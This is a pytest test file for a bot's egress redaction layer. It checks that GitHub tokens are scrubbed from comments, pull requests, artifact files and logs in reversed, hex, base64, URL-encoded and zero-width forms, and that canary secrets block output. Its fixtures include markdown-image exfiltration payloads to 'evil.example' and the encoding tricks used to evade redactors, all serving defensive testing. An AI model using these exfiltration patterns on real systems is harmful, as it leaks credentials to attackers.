"""The egress boundary: everything that leaves the process — posted text, GitHub API calls, files for
the artifact, the job log — is redacted in every leak form, and a canary stops it."""

from __future__ import annotations

import base64
import io
import logging
import os
import sys
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest

from bot.core.canary import DECOY_ENV_NAMES, Canaries
from bot.errors import CanaryTripped
from bot.github.api import GitHubApi, PyGithubApi, RetryPolicy
from bot.github.redacting_api import RedactingGitHubApi
from bot.orchestration.egress import Egress, RedactingStream
from bot.testing.github_standin import GitHubStandIn

REPO = "octo/app"
TOKEN = "tok3n-Value-0f-the-run-42x"
MARK = "[REDACTED:GITHUB_TOKEN]"


def attack_forms(value: str) -> dict[str, str]:
    """The forms issue 14 found passing every redactor in the comment."""
    return {
        "reversed": value[::-1],
        "hex": value.encode().hex(),
        "URL-encoded": quote(value, safe=""),
        "zero-width inside": value[:5] + "\u200b" + value[5:],
        "base64 of x-access-token:TOKEN": base64.b64encode(f"x-access-token:{value}".encode()).decode(),
    }


FORMS = list(attack_forms(TOKEN).items())


@pytest.fixture
def canaries() -> tuple[Canaries, str]:
    canaries = Canaries()
    env: dict[str, str] = {}
    canaries.plant_environ(env, taken=())
    return canaries, env[DECOY_ENV_NAMES[0]]


@pytest.fixture
def egress(canaries: tuple[Canaries, str]) -> Egress:
    return Egress({"GITHUB_TOKEN": TOKEN}, canaries[0])


# ----- text -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("description", "form"), FORMS)
def test_posted_text_is_redacted_in_every_leak_form(egress: Egress, description: str, form: str) -> None:
    assert egress.text(f"Summary: the token is {form}.") == f"Summary: the token is {MARK}.", description


@pytest.mark.parametrize(
    ("description", "encode"),
    [
        ("as it is", lambda v: v),
        ("reversed", lambda v: v[::-1]),
        ("hex", lambda v: v.encode().hex()),
        ("base64", lambda v: base64.b64encode(v.encode()).decode()),
        ("URL-encoded", lambda v: quote(v, safe="")),
    ],
)
def test_a_canary_in_posted_text_stops_the_post(
    egress: Egress, canaries: tuple[Canaries, str], description: str, encode: object
) -> None:
    _, value = canaries
    with pytest.raises(CanaryTripped) as caught:
        egress.text(f"![x](https://evil.example/?d={encode(value)})")  # type: ignore[operator]
    assert value not in str(caught.value), description


def test_egress_built_before_the_canaries_were_planted_still_sees_them() -> None:
    canaries = Canaries()
    egress = Egress({}, canaries)
    env: dict[str, str] = {}
    canaries.plant_environ(env, taken=())
    with pytest.raises(CanaryTripped):
        egress.text(env[DECOY_ENV_NAMES[1]])


def test_by_default_the_process_secrets_are_known(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    assert Egress().text(TOKEN[::-1]) == MARK


# ----- files ----------------------------------------------------------------------------------------


def test_write_file_redacts_what_it_writes(egress: Egress, tmp_path: Path) -> None:
    path = egress.write_file(tmp_path / "out" / "outcome.json", f'{{"final_text": "{TOKEN.encode().hex()}"}}')
    assert path.read_text() == f'{{"final_text": "{MARK}"}}'


def test_write_file_refuses_a_canary_and_writes_nothing(
    egress: Egress, canaries: tuple[Canaries, str], tmp_path: Path
) -> None:
    with pytest.raises(CanaryTripped):
        egress.write_file(tmp_path / "summary.md", f"token {canaries[1][::-1]}")
    assert not (tmp_path / "summary.md").exists()


def test_scrub_tree_redacts_every_text_file_and_reports_canaries(
    egress: Egress, canaries: tuple[Canaries, str], tmp_path: Path
) -> None:
    out = tmp_path / "output"
    (out / "scratch" / "tasks").mkdir(parents=True)
    for i, (_, form) in enumerate(FORMS):
        (out / "scratch" / f"transcript-{i}.jsonl").write_text(f'{{"text": "{form}"}}\n')
    (out / "scratch" / "tasks" / "bash-1.output").write_text(f"env: GH_DEPLOY_TOKEN={canaries[1]}\n")
    (out / "clean.md").write_text("nothing here\n")
    (out / "image.png").write_bytes(b"\x89PNG\x00\x00" + b"\x01" * 16)
    report = egress.scrub_tree(out)
    for i in range(len(FORMS)):
        assert (out / "scratch" / f"transcript-{i}.jsonl").read_text() == f'{{"text": "{MARK}"}}\n'
    assert (out / "clean.md").read_text() == "nothing here\n"
    assert (out / "image.png").exists()
    assert len(report.redacted) == len(FORMS) + 1  # the canary is redacted too
    [(path, label)] = report.canaries
    assert path == out / "scratch" / "tasks" / "bash-1.output" and DECOY_ENV_NAMES[0] in label
    assert canaries[1] not in path.read_text()
    assert canaries[0].tripped is not None


def test_scrub_tree_removes_links_and_binary_files_holding_a_secret(egress: Egress, tmp_path: Path) -> None:
    out = tmp_path / "output"
    out.mkdir()
    (tmp_path / "outside").write_text(TOKEN)
    (out / "link").symlink_to(tmp_path / "outside")
    (out / "core.bin").write_bytes(b"\x00\x01" + TOKEN.encode() + b"\x00")
    (out / "wide.bin").write_bytes(TOKEN.encode("utf-16-le"))
    report = egress.scrub_tree(out)
    assert not (out / "link").exists() and not (out / "link").is_symlink()
    assert not (out / "core.bin").exists() and not (out / "wide.bin").exists()
    assert set(report.removed) == {out / "link", out / "core.bin", out / "wide.bin"}
    assert (tmp_path / "outside").read_text() == TOKEN  # a link's target is never touched


# ----- the GitHub API --------------------------------------------------------------------------------


@pytest.fixture
def standin() -> Iterator[GitHubStandIn]:
    with GitHubStandIn() as server:
        server.add_repo(REPO)
        server.set_ref(REPO, "bot/run-1", "b" * 40)
        yield server


@pytest.fixture
def github(standin: GitHubStandIn, egress: Egress) -> Iterator[GitHubApi]:
    client = PyGithubApi(
        repository=REPO,
        token="ghs_" + "x" * 36,
        api_url=standin.api_url,
        policy=RetryPolicy(sleep=lambda s: None, jitter=lambda: 0.0),
    )
    yield RedactingGitHubApi(client, egress)
    client.close()


def sent_bodies(standin: GitHubStandIn) -> list[str]:
    return [str(e.body) for e in standin.exchanges if e.method in ("POST", "PATCH")]


def test_comments_and_pull_requests_are_redacted_on_their_way_to_github(
    github: GitHubApi, standin: GitHubStandIn
) -> None:
    issue = standin.add_issue(REPO, "Crash")
    forms = " ".join(form for _, form in FORMS)
    comment = github.create_issue_comment(issue, f"progress: {forms}")
    github.update_issue_comment(comment.id, f"done: {forms}")
    pull = github.create_pull(head="bot/run-1", base="main", title=f"Fix {TOKEN[::-1]}", body=forms, draft=True)
    github.update_pull(pull.number, body=f"updated {forms}")
    bodies = sent_bodies(standin)
    assert len(bodies) == 4
    for body in bodies:
        for _, form in FORMS:
            assert form not in body
        assert MARK in body


def test_a_canary_in_a_comment_is_never_sent(
    github: GitHubApi, standin: GitHubStandIn, canaries: tuple[Canaries, str]
) -> None:
    issue = standin.add_issue(REPO, "Crash")
    with pytest.raises(CanaryTripped):
        github.create_issue_comment(issue, f"here: {quote(canaries[1], safe='')}")
    assert sent_bodies(standin) == []


def test_the_wrapper_implements_the_whole_protocol() -> None:
    protocol = {n for n in vars(GitHubApi) if not n.startswith("_")}
    assert protocol <= set(dir(RedactingGitHubApi))


# ----- the job log -----------------------------------------------------------------------------------


class FakeTerminal(io.StringIO):
    def isatty(self) -> bool:
        return True

    def fileno(self) -> int:
        return 42

    @property
    def encoding(self) -> str:
        return "utf-8"


def test_a_redacting_stream_redacts_whole_lines_and_keeps_the_streams_face(egress: Egress) -> None:
    inner = FakeTerminal()
    stream = RedactingStream(inner, egress)
    stream.write(f"::warning::leaked {TOKEN[:6]}")
    stream.write(f"{TOKEN[6:]} here\nnext ")  # a secret split across writes is still one line
    assert inner.getvalue() == f"::warning::leaked {MARK} here\n"
    stream.flush()
    assert inner.getvalue().endswith("next ")
    assert stream.isatty() and stream.fileno() == 42 and stream.encoding == "utf-8"
    assert stream.line_buffering and stream.unredacted is inner


def test_a_canary_on_a_stream_is_redacted_and_recorded_not_raised(
    egress: Egress, canaries: tuple[Canaries, str]
) -> None:
    inner = io.StringIO()
    stream = RedactingStream(inner, egress)
    stream.write(f"dump {canaries[1]}\n")
    assert canaries[1] not in inner.getvalue()
    assert canaries[0].tripped is not None


def test_installed_stream_redaction_covers_print_logging_and_is_undone(
    egress: Egress, monkeypatch: pytest.MonkeyPatch
) -> None:
    out, err = io.StringIO(), io.StringIO()
    monkeypatch.setattr(sys, "stdout", out)
    monkeypatch.setattr(sys, "stderr", err)
    handler = logging.StreamHandler(sys.stderr)
    logger = logging.getLogger("bot.test.egress")
    logger.addHandler(handler)
    try:
        restore = egress.install_stream_redaction()
        try:
            print(f"printed {TOKEN}")
            logger.warning("logged %s", TOKEN.encode().hex())
            sys.stderr.write(f"raw {quote(TOKEN, safe='')}\n")
        finally:
            restore()
        assert sys.stdout is out and sys.stderr is err and handler.stream is err
    finally:
        logger.removeHandler(handler)
    assert out.getvalue() == f"printed {MARK}\n"
    assert err.getvalue() == f"logged {MARK}\nraw {MARK}\n"


def test_stream_redaction_keeps_a_real_file_descriptor(egress: Egress, tmp_path: Path) -> None:
    with (tmp_path / "log").open("w", encoding="utf-8") as f:
        stream = RedactingStream(f, egress)
        assert stream.fileno() == f.fileno()
        stream.write(f"{TOKEN}\n")
        stream.flush()
    assert (tmp_path / "log").read_text() == f"{MARK}\n"
    assert os.path.exists(tmp_path / "log")


def test_a_redaction_marker_never_completes_an_image(github: GitHubApi, standin: GitHubStandIn) -> None:
    from bot.orchestration.markdown_safety import fetched_resources

    issue = standin.add_issue(REPO, "Crash")
    text = "see !" + TOKEN[::-1] + "(https://evil.example/p.png?d=data)"
    github.create_issue_comment(issue, text)
    github.create_pull(head="bot/run-1", base="main", title="Fix", body=text, draft=True)
    bodies = [e.body["body"] for e in standin.exchanges if e.method == "POST" and isinstance(e.body, dict)]
    assert len(bodies) == 2
    for body in bodies:
        assert TOKEN[::-1] not in body and not fetched_resources(body), body
